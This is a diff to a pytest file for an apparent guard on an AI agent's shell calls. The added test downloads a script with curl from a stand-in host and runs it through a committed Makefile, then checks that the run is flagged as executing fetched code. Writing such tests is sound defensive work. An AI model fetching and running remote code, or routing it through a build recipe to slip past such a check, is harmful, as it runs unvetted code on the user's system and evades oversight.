@@ -1,6 +1,8 @@
 """Harm that lies across calls: no single one of them looks dangerous."""
 
+import os
 import re
+import subprocess
 
 import pytest
 
@@ -360,3 +362,16 @@ def test_what_a_fetched_patch_changes_is_not_run_unasked(session):
     session.make("fix.patch", content="--- a/run.sh\n+++ b/run.sh\n@@ -1 +1 @@\n-echo hi\n+echo ho\n")
     session.let_through("git apply fix.patch")
     assert rule_of(session.run("bash run.sh")) == "sessions/run-fetched"
+
+
+def test_what_was_fetched_is_asked_about_whoever_runs_it(tmp_path):
+    """A committed recipe that runs a file does not vouch for the file."""
+    (tmp_path / "Makefile").write_text("x:\n\tbash i.sh\n")
+    environment = {"GIT_CONFIG_GLOBAL": "/dev/null", "PATH": os.environ["PATH"]}
+    who = ["-c", "user.name=a", "-c", "user.email=a@example.com"]
+    for words in (["init", "-q"], ["add", "-A"], [*who, "commit", "-qm", "a"]):
+        subprocess.run(["git", *words], cwd=tmp_path, env=environment, check=True)
+    session = SessionOfCalls(tmp_path)
+    session.tool("Bash", command="curl -so i.sh https://x.example/i.sh")
+    (tmp_path / "i.sh").write_text("echo hi\n")
+    assert session.tool("Bash", command="make x").rule == "sessions/run-fetched"
